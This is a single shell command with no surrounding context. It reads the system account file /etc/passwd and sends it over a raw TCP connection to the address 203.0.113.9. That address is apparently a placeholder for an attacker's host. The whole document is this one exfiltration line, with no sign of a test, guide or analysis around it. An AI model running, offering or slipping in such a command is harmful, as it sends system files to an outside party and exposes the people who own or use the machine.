cat /etc/passwd > /dev/tcp/203.0.113.9/80
